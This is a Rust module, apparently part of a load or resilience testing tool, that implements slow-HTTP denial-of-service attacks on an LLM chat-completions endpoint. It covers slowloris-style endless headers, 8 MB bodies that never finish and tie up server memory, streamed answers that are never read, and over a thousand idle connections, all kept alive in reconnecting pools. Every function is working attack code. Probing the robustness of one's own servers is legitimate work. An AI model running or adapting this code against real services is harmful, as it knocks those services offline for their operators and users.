//! HTTP that takes its time.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::{Tally, post};
use crate::targets::Targets;

/// Bytes a second that unfinished bodies send at most, over all connections: the attack is the memory that they hold.
const BODY_RATE: u64 = 40 << 20;

/// A byte of a header now and then, and no end of it.
pub(super) async fn headers(targets: Arc<Targets>, tally: Tally) {
    hold(200, targets, tally, |mut stream, targets| async move {
        let head = format!(
            "POST /v1/chat/completions HTTP/1.1\r\nhost: {}\r\nx-slow: ",
            targets.http
        );
        stream.write_all(head.as_bytes()).await?;
        loop {
            stream.write_all(b"z").await?;
            closed_within(&mut stream, Duration::from_secs(1)).await?;
        }
    })
    .await;
}

/// A body of 8 MB but for its end.
pub(super) async fn bodies(targets: Arc<Targets>, tally: Tally) {
    const BODY: usize = 8_000_000;
    let sent = Arc::new(AtomicU64::new(0));
    let begun = Instant::now();
    hold(150, targets, tally, move |mut stream, targets| {
        let sent = sent.clone();
        async move {
            let head = post(&targets, "/v1/chat/completions", BODY);
            stream.write_all(head.as_bytes()).await?;
            let block = vec![b'1'; 64 << 10];
            for _ in 0..(BODY - 1) / block.len() {
                stream.write_all(&block).await?;
                let sent = sent.fetch_add(block.len() as u64, Ordering::Relaxed);
                let due = Duration::from_secs_f64(sent as f64 / BODY_RATE as f64);
                tokio::time::sleep(due.saturating_sub(begun.elapsed())).await;
            }
            loop {
                closed_within(&mut stream, Duration::from_secs(5)).await?;
            }
        }
    })
    .await;
}

/// A long streamed answer of which nothing is read.
pub(super) async fn readers(targets: Arc<Targets>, tally: Tally) {
    hold(20, targets, tally, |mut stream, targets| async move {
        let body = format!(
            r#"{{"model":{:?},"stream":true,"logprobs":true,"top_logprobs":20,"max_tokens":400,"ignore_eos":true,"messages":[{{"role":"user","content":"Tell me a very long story."}}]}}"#,
            targets.model
        );
        let head = post(&targets, "/v1/chat/completions", body.len());
        stream.write_all(head.as_bytes()).await?;
        stream.write_all(body.as_bytes()).await?;
        loop {
            // An unread answer hides the other side's end; a byte that cannot be sent shows it.
            tokio::time::sleep(Duration::from_secs(2)).await;
            stream.write_all(b"\n").await?;
        }
    })
    .await;
}

/// Connections that send nothing.
pub(super) async fn idle(targets: Arc<Targets>, tally: Tally) {
    hold(1_100, targets, tally, |mut stream, _| async move {
        loop {
            closed_within(&mut stream, Duration::from_secs(5)).await?;
        }
    })
    .await;
}

/// Keeps so many connections, each held by `keep` until it fails, and counts how long the head bore them.
async fn hold<F, Fut>(connections: usize, targets: Arc<Targets>, tally: Tally, keep: F)
where
    F: Fn(TcpStream, Arc<Targets>) -> Fut + Clone + Send + 'static,
    Fut: Future<Output = std::io::Result<()>> + Send,
{
    let mut tasks = JoinSet::new();
    for number in 0..connections {
        let (targets, tally, keep) = (targets.clone(), tally.clone(), keep.clone());
        tasks.spawn(async move {
            // Not all in one moment.
            tokio::time::sleep(Duration::from_millis(2 * number as u64)).await;
            loop {
                match TcpStream::connect(targets.http).await {
                    Ok(stream) => {
                        tally.count("connected");
                        let held = Instant::now();
                        let _ = keep(stream, targets.clone()).await;
                        let seconds = held.elapsed().as_secs();
                        tally.count(match seconds {
                            0..3 => "ended within 3 s",
                            3..20 => "ended after 3 to 20 s",
                            20..60 => "ended after 20 to 60 s",
                            _ => "ended later",
                        });
                    }
                    Err(error) => tally.count(error.kind()),
                }
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        });
    }
    while tasks.join_next().await.is_some() {}
}

/// Waits so long; an error if the other side ends meanwhile.
async fn closed_within(stream: &mut TcpStream, wait: Duration) -> std::io::Result<()> {
    let mut heard = [0; 512];
    match tokio::time::timeout(wait, stream.read(&mut heard)).await {
        Err(_) => Ok(()),
        Ok(Ok(0)) => Err(std::io::ErrorKind::ConnectionAborted.into()),
        Ok(Ok(_)) => Ok(()),
        Ok(Err(error)) => Err(error),
    }
}
